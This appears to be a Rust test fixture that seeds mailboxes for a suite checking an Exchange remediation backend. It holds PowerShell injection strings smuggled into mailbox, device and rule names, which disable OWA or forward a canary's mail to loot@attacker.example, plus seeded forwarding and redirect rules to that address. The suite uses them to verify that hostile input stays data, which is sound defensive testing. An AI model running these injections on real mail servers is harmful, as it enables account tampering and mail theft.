//! The mailboxes the suite expects a backend to be seeded with.

use crate::{
    CasProtocol, CasSettings, DeviceAccessState, Forwarding, InboxRule, MailboxId, MailboxState,
    MobileDevice,
};

/// The identity of the canary mailbox that the hostile names target.
pub const CANARY: &str = "exch-conf-canary@corp.example";

/// Text that is PowerShell changing the canary (its OWA access, its forwarding) if a backend
/// ever ran it as code instead of passing it as data: single quotes ASCII and typographic
/// (U+2018–U+201B), `$( )`, backticks, double quotes, `;`, `&`, `#`, CR and LF.
pub fn hostile_names() -> Vec<String> {
    let set_cas = format!("Set-CASMailbox -Identity {CANARY} -OWAEnabled $false");
    let set_fwd = format!(
        "Set-Mailbox -Identity {CANARY} -ForwardingSmtpAddress 'smtp:loot@attacker.example'"
    );
    vec![
        format!("x'; {set_cas}; '"),
        format!("x\u{2019}; {set_fwd}; \u{2018}"),
        format!("$({set_cas})"),
        format!("a`\"; {set_cas} #\r\n{set_fwd}\n`$x"),
        format!("\u{201A}\u{201B}'' ; & {set_cas}"),
    ]
}

fn device(mailbox: &str, kind: &str, id: &str, name: &str) -> MobileDevice {
    MobileDevice {
        identity: format!("{mailbox}\\ExchangeActiveSyncDevices\\{kind}\u{a7}{id}"),
        device_id: id.to_owned(),
        device_type: kind.to_owned(),
        device_model: format!("{kind} model"),
        friendly_name: name.to_owned(),
        access_state: DeviceAccessState::Allowed,
    }
}

fn rule(mailbox: &str, n: u64, name: &str) -> InboxRule {
    InboxRule {
        name: name.to_owned(),
        identity: format!("{mailbox}\\{n}"),
        rule_identity: n.to_string(),
        enabled: true,
        ..InboxRule::default()
    }
}

/// What the backend under test must be seeded with, and what the checks expect of it.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct Seed {
    /// For [`cas_set_and_restore`](super::cas_set_and_restore): every protocol allowed, EWS
    /// unset.
    pub cas: MailboxState,
    /// For [`devices_wiped_then_blocked`](super::devices_wiped_then_blocked): two devices, one ID already blocked.
    pub devices: MailboxState,
    /// For [`forwarding_found_and_removed`](super::forwarding_found_and_removed): SMTP forwarding with a copy kept, a forwarding rule
    /// and a harmless one.
    pub forwarding: MailboxState,
    /// For [`inbox_rules_disabled_and_removed`](super::inbox_rules_disabled_and_removed): rules that forward, forward as attachment,
    /// redirect, delete, and a harmless one.
    pub rules: MailboxState,
    /// For [`hostile_names_are_data`](super::hostile_names_are_data): identity, device IDs, device names and rule names from
    /// [`hostile_names`].
    pub hostile: MailboxState,
    /// Never targeted: [`canary_untouched`](super::canary_untouched) checks it is as seeded.
    pub canary: MailboxState,
    /// An identity no mailbox has.
    pub absent: MailboxId,
}

impl Seed {
    /// The standard seed.
    pub fn standard() -> Seed {
        // EWS unset, as on a new mailbox: restoring it writes `-EwsEnabled $null`.
        let cas = MailboxState::new("exch-conf-cas@corp.example")
            .with_cas(CasSettings::all(true).with(CasProtocol::Ews, None));
        let d = "exch-conf-devices@corp.example";
        let devices = MailboxState::new(d)
            .with_device(device(d, "iPhone", "APPLF17XK0Q2HG7F", "Bob's iPhone"))
            .with_device(device(
                d,
                "Outlook",
                "5eec4e941e0748a264512fd83770d5ac",
                "Outlook for Android",
            ))
            .with_blocked(vec!["PREBLOCKED0001".to_owned()]);
        let f = "exch-conf-forwarding@corp.example";
        let mut fwd_rule = rule(f, 4_611_686_018_427_387_905, "Copy to me");
        fwd_rule.forward_to = vec!["loot@attacker.example".to_owned()];
        let forwarding = MailboxState::new(f)
            .with_forwarding(Forwarding {
                smtp_address: Some("smtp:loot@attacker.example".to_owned()),
                address: None,
                deliver_to_mailbox_and_forward: true,
            })
            .with_rule(fwd_rule)
            .with_rule(rule(f, 2, "Newsletters"));
        let r = "exch-conf-rules@corp.example";
        let mut forwards = rule(r, 11, "fwd");
        forwards.forward_to = vec!["loot@attacker.example".to_owned()];
        let mut attaches = rule(r, 12, "att");
        attaches.forward_as_attachment_to = vec!["loot@attacker.example".to_owned()];
        let mut redirects = rule(r, 13, "redir");
        redirects.redirect_to = vec![
            "loot@attacker.example".to_owned(),
            "other@attacker.example".to_owned(),
        ];
        let mut deletes = rule(r, 14, "del");
        deletes.delete_message = true;
        deletes.enabled = false;
        let rules = MailboxState::new(r)
            .with_rule(forwards)
            .with_rule(attaches)
            .with_rule(redirects)
            .with_rule(deletes)
            .with_rule(rule(r, 15, "Newsletters"));
        let names = hostile_names();
        let h = format!("o'brien\u{2019}s {}", names[2]);
        let mut hostile_rule = rule(&h, 21, &names[1]);
        hostile_rule.forward_to = vec![names[0].clone()];
        let mut hostile_delete = rule(&h, 22, &names[4]);
        hostile_delete.delete_message = true;
        let hostile = MailboxState::new(h.clone())
            .with_device(device(&h, "iPhone", &names[0], &names[3]))
            .with_device(device(&h, "Android", &names[3], &names[4]))
            .with_rule(hostile_rule)
            .with_rule(hostile_delete);
        let mut canary_rule = rule(CANARY, 31, "Canary forward");
        canary_rule.forward_to = vec!["archive@corp.example".to_owned()];
        let canary = MailboxState::new(CANARY)
            .with_device(device(CANARY, "iPhone", "CANARYDEVICE0001", "Canary"))
            .with_rule(canary_rule)
            .with_rule(rule(CANARY, 32, "Newsletters"));
        Seed {
            cas,
            devices,
            forwarding,
            rules,
            hostile,
            canary,
            absent: MailboxId::new("exch-conf-nobody@corp.example")
                .unwrap_or_else(|e| panic!("{e}")),
        }
    }

    /// Every mailbox to seed.
    pub fn mailboxes(&self) -> Vec<MailboxState> {
        vec![
            self.cas.clone(),
            self.devices.clone(),
            self.forwarding.clone(),
            self.rules.clone(),
            self.hostile.clone(),
            self.canary.clone(),
        ]
    }
}
